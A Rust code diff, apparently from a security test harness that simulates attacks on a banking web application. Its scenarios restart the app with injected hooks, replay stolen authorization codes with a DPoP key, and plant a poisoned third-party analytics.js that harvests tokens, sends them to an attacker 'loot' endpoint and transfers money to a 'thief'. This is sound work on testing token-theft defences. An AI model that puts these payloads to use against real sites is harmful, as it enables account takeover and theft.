@@ -31,7 +31,7 @@ pub(super) async fn hooks(scene: &mut Scene<'_>) -> Result<Outcome> {
 
 /// A2b: a script starts the application anew with hooks in it; the victim logs in again.
 pub(super) async fn starts_anew(scene: &mut Scene<'_>) -> Result<Outcome> {
-    let hooks = format!("const LOOT = {};\n{PRELUDE}\n{HOOKS}", Value::String(scene.evil("/loot")));
+    let hooks = format!("const LOOT = {};\n{PRELUDE}\n{HOOKS}", Value::String(scene.loot()));
     let source = Value::String(hooks);
     let main = format!("await again({source});");
     let payload = script(scene, &[include_str!("../../payloads/again.js")], &main);
@@ -87,7 +87,7 @@ pub(super) async fn silent_flow(scene: &mut Scene<'_>) -> Result<Outcome> {
         "redeems the code on another machine, with a key of his own",
         answer.status().to_string(),
     );
-    let loot = Loot { texts: vec![answer.body().clone()], cookies: Vec::new() };
+    let loot = Loot { texts: vec![answer.body().clone()], ..Loot::default() };
     for (number, token) in loot.words().iter().enumerate() {
         let proof = key.proof("GET", &scene.app("/api/profile"), Some(token), number as u64 + 2)?;
         let bound = format!("DPoP {token}");
@@ -153,7 +153,7 @@ pub(super) async fn rides(scene: &mut Scene<'_>) -> Result<Outcome> {
 
 /// M1: the same from a script that the application itself loads from somewhere else.
 pub(super) async fn poisoned_module(scene: &mut Scene<'_>) -> Result<Outcome> {
-    let main = "hook(window); await new Promise((go) => addEventListener('load', go)); await window.bank.ready; globalThis.poisoned = async () => { await harvest(); await attempt('ride', () => window.bank.transfer('thief', 1300)); await send('poison', 'spent'); };";
+    let main = "hook(window); while (!window.bank) await new Promise((go) => setTimeout(go, 10)); await window.bank.ready; globalThis.poisoned = async () => { await harvest(); await attempt('ride', () => window.bank.transfer('thief', 1300)); await send('poison', 'spent'); };";
     let address = format!("{}/analytics.js", scene.world.names.cdn());
     let payload = script(scene, &[HARVEST, HOOKS], main);
     scene.world.cdn.put("/analytics.js", crate::world::Served::script(payload));
@@ -185,7 +185,7 @@ async fn goes_on(scene: &mut Scene<'_>) -> Result<()> {
     does(&scene.page, "profile", &[]).await?;
     does(&scene.page, "transfer", &[json!("friend"), json!(2)]).await?;
     scene.step(Actor::Victim, "goes on: looks at the profile and sends 2 to a friend", "");
-    let loot = Value::String(scene.evil("/loot"));
+    let loot = Value::String(scene.loot());
     scene
         .page
         .eval(&format!(
